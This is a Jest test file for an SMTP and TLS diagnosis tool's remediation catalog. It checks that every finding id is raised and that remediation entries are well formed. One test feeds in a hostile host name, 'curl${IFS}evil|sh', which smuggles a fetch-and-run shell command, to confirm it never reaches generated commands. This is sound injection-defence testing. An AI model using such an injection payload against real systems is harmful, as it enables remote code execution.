import { diagnose } from '../../../src/diagnosis/diagnose';
import type { Finding } from '../../../src/diagnosis/types';
import { FINDING_IDS } from '../../../src/diagnosis/types';
import { probeFromTranscript } from '../../fixtures/transcripts/builder';
import { certificateReport, exchangeSelfSigned } from '../../fixtures/transcripts/certificates';
import { exchange2016Port25, referenceThreadPort25, referenceThreadPort587 } from '../../fixtures/transcripts/exchange';
import * as failures from '../../fixtures/transcripts/failures';
import { diagnosisInput } from '../../fixtures/transcripts/input';
import { asaMasked } from '../../fixtures/transcripts/middlebox';
import { openSmtpd } from '../../fixtures/transcripts/mtas';

/** Inputs that together raise every finding id. */
function everyFinding(host: string): Finding[] {
  const badCert = certificateReport({
    daysLeft: -2,
    trusted: false,
    trustError: 'UNABLE_TO_VERIFY_LEAF_SIGNATURE',
    chainComplete: false,
    nameMatch: false,
    keyBits: 1024,
    signatureAlgorithm: 'sha1WithRSAEncryption',
    sha1Thumbprint: 'CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC',
    sha256Fingerprint: 'CC:01',
  });
  const soon = certificateReport({ daysLeft: 3, sha256Fingerprint: 'CC:02', nameMatch: true });
  const early = certificateReport({ trustError: 'CERT_NOT_YET_VALID', trusted: false, sha256Fingerprint: 'CC:03' });
  const byAddress = certificateReport({ identityName: null, nameMatch: null, sha256Fingerprint: 'CC:04' });
  const junk = probeFromTranscript({ port: 2526, transcript: '', error: { code: 'PROBE_PROTOCOL_ERROR', step: 'greeting', message: 'junk' } });
  const inputs = [
    diagnosisInput([referenceThreadPort25(), [referenceThreadPort587(), certificateReport()]], { host }),
    diagnosisInput([asaMasked(), failures.greeting421(587), failures.greeting554(2525), failures.connectRefused(465), junk], { host }),
    diagnosisInput([failures.postfix454(25), [failures.legacyTls(), badCert], [openSmtpd(587), soon]], { host }),
    diagnosisInput([failures.handshakeFails(25), [exchange2016Port25(), exchangeSelfSigned()], [{ ...exchange2016Port25(), port: 587 }, early]], { host }),
    diagnosisInput([[referenceThreadPort587(), byAddress]], { host: '192.0.2.25' }),
  ];
  return inputs.flatMap((input) => diagnose(input).findings);
}

describe('the remediation catalog', () => {
  const findings = everyFinding('mail.contoso.test');

  it('is exercised for every finding id', () => {
    expect(new Set(findings.map((f) => f.id))).toEqual(new Set(FINDING_IDS));
  });

  it('has one any entry per finding, guesses only after it, steps everywhere, and never repeats a platform', () => {
    for (const f of findings) {
      const platforms = f.remediation.map((r) => r.platform);
      const any = platforms.indexOf('any');
      expect({ id: f.id, anys: platforms.filter((p) => p === 'any').length }).toEqual({ id: f.id, anys: 1 });
      f.remediation.forEach((r, i) => expect({ id: f.id, i, guess: r.guess ?? false }).toEqual({ id: f.id, i, guess: i > any }));
      expect(new Set(platforms).size).toBe(platforms.length);
      for (const r of f.remediation) expect(r.steps.length).toBeGreaterThan(0);
      expect(f.title).not.toMatch(/\n/);
      expect(f.evidence.length).toBeGreaterThan(0);
    }
  });

  it('keeps an unsafe host name out of every command', () => {
    const hostile = everyFinding('mx.example.org;curl${IFS}evil|sh');
    const commands = hostile.flatMap((f) => f.remediation.flatMap((r) => r.commands.map((c) => c.line)));
    expect(commands.length).toBeGreaterThan(20);
    for (const c of commands) expect(c).not.toContain('curl');
  });
});
